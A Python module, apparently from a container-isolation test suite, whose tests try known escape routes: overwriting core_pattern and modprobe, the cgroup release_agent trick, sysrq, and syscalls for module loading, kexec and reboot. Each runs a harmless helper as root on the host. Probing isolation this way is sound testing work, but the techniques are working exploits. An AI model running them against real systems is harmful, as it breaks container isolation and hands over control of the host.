"""Attacks whose success changes the machine. A plain container tries them to their end only in a
machine that is thrown away; elsewhere it stops where nothing would keep it from going on.
"""
import errno
import os
import resource
import signal
import socket
import struct
import time

from kernel import Impossible, Refused, attack, call, mount, refuse_unless, text

CAPABILITIES = "Capabilities"
GROUPS = "Control groups"
KERNEL = "Files of the kernel"
# Where the node has what an attack leaves there, as it sees it itself.
HELPER, TOLD = "/tmp/insula-helper", "/tmp/insula-helped"
NODE = "/proc/1/root"
# Longest that the kernel may take to run it.
HELP_SECONDS = 40


def leave_a_helper():
    """Puts a program onto the node that tells who it is. A plain container gets there."""
    with open(NODE + HELPER, "w") as file:
        file.write(f"#!/bin/sh\n/usr/bin/id -u >{TOLD}.new; /usr/bin/mv {TOLD}.new {TOLD}\n")
    os.chmod(NODE + HELPER, 0o700)


def helped():
    """Waits until the node has run it."""
    deadline = time.monotonic() + HELP_SECONDS
    while not os.path.exists(NODE + TOLD):
        refuse_unless(time.monotonic() < deadline, "the node does not run it")
        time.sleep(0.02)
    told = text(NODE + TOLD).strip()
    os.unlink(NODE + TOLD)
    refuse_unless(told == "0", f"it runs as {told}")
    return "the node runs its program as root"


def opens(path):
    if not os.path.exists(path):
        raise FileNotFoundError(errno.ENOENT, path)
    os.close(os.open(path, os.O_WRONLY))
    return "opens it for writing"


def write(path, content):
    with open(path, "w") as file:
        file.write(content)


def by_every_way(limit):
    """Sets the limit of dumps by each call that there is for it."""
    bytes_of = struct.pack("QQ", *limit)
    for number, arguments in ((160, ()), (302, (0,)), (302, (os.getpid(),))):
        try:
            call(number, *arguments, resource.RLIMIT_CORE, bytes_of, *(0 for _ in arguments))
        except OSError:
            pass


def crash(limit=None):
    """A process that crashes; whether its memory was dumped."""
    child = os.fork()
    if child == 0:
        if limit is not None:
            by_every_way(limit)
        os.chdir("/tmp")
        signal.signal(signal.SIGSEGV, signal.SIG_DFL)
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(1)
    _, status = os.waitpid(child, 0)
    return os.WCOREDUMP(status)


def has(at, path):
    if at.control and not os.path.exists(path):
        raise Impossible(f"there is no {path} here")


@attack(KERNEL)
def write_core_pattern(at):
    """names the program that is told of crashes (`/proc/sys/kernel/core_pattern`)"""
    path = "/proc/sys/kernel/core_pattern"
    if not at.may_change_the_machine:
        return opens(path)
    before = text(path)
    leave_a_helper()
    write(path, f"|{HELPER}")
    try:
        crash()
        return helped()
    finally:
        write(path, before)


@attack(KERNEL)
def dump(at):
    """has the node run its program for crashes, or write a file, whatever limit it sets itself"""
    infinity = 2**64 - 1
    for limit in (None, (0, 0), (0, infinity), (infinity, infinity), (2, 2)):
        if crash(limit):
            return "its memory is dumped"
    raise Refused("the kernel dumps nothing")


@attack(KERNEL)
def write_module_loader(at):
    """names the program that loads modules (`/proc/sys/kernel/modprobe`)"""
    path = "/proc/sys/kernel/modprobe"
    has(at, path)
    if not at.may_change_the_machine:
        return opens(path)
    before = text(path)
    leave_a_helper()
    write(path, HELPER)
    try:
        # A family that nobody has: its module is asked for.
        socket.socket(43 if before else 0, socket.SOCK_RAW, 0)
    except OSError:
        pass
    try:
        return helped()
    finally:
        write(path, before)


@attack(KERNEL)
def write_system_request(at):
    """reboots the machine by a magic key (`/proc/sysrq-trigger`)"""
    path = "/proc/sysrq-trigger"
    has(at, path)
    if not at.may_change_the_machine:
        return opens(path)
    # The key that writes all disks: as mighty as the others, and harmless.
    write(path, "s")
    return "the kernel obeys a key"


@attack(CAPABILITIES)
def load_a_module(at):
    """loads a module into the kernel (SYS_MODULE)"""
    at.changes_the_machine()
    try:
        call(175, b"no module", 9, b"")
    except OSError as error:
        # The kernel has looked at it.
        if error.errno != errno.ENOEXEC:
            raise


@attack(CAPABILITIES)
def boot_another_kernel(at):
    """puts another kernel in this one's place (kexec_load: SYS_BOOT)"""
    at.changes_the_machine()
    call(246, 0, 0, None, 0)


@attack(CAPABILITIES)
def reboot(at):
    """tells the machine how to reboot (reboot: SYS_BOOT)"""
    at.changes_the_machine()
    call(169, 0xFEE1DEAD, 672274793, 0, None)


@attack(CAPABILITIES)
def set_the_clock(at):
    """sets the machine's clock (SYS_TIME)"""
    at.changes_the_machine()
    time.clock_settime(time.CLOCK_REALTIME, time.time())


@attack(CAPABILITIES)
def account(at):
    """has the kernel write down every process into a file (acct: SYS_PACCT)"""
    at.changes_the_machine()
    call(163, None)


@attack(GROUPS)
def release_agent(at):
    """has the node run a program when a group is empty (release_agent)"""
    os.makedirs("/tmp/groups", exist_ok=True)
    try:
        mount(b"none", b"/tmp/groups", b"cgroup", 0, b"none,name=attacked")
    except OSError:
        if not at.control:
            raise
        raise Impossible("this kernel has no version 1 of control groups") from None
    try:
        if not at.may_change_the_machine:
            return opens("/tmp/groups/release_agent")
        leave_a_helper()
        write("/tmp/groups/release_agent", HELPER)
        os.mkdir("/tmp/groups/one")
        write("/tmp/groups/one/notify_on_release", "1")
        if (child := os.fork()) == 0:
            write("/tmp/groups/one/cgroup.procs", "0")
            os._exit(0)
        os.waitpid(child, 0)
        try:
            return helped()
        finally:
            os.rmdir("/tmp/groups/one")
    finally:
        call(166, b"/tmp/groups", 2)
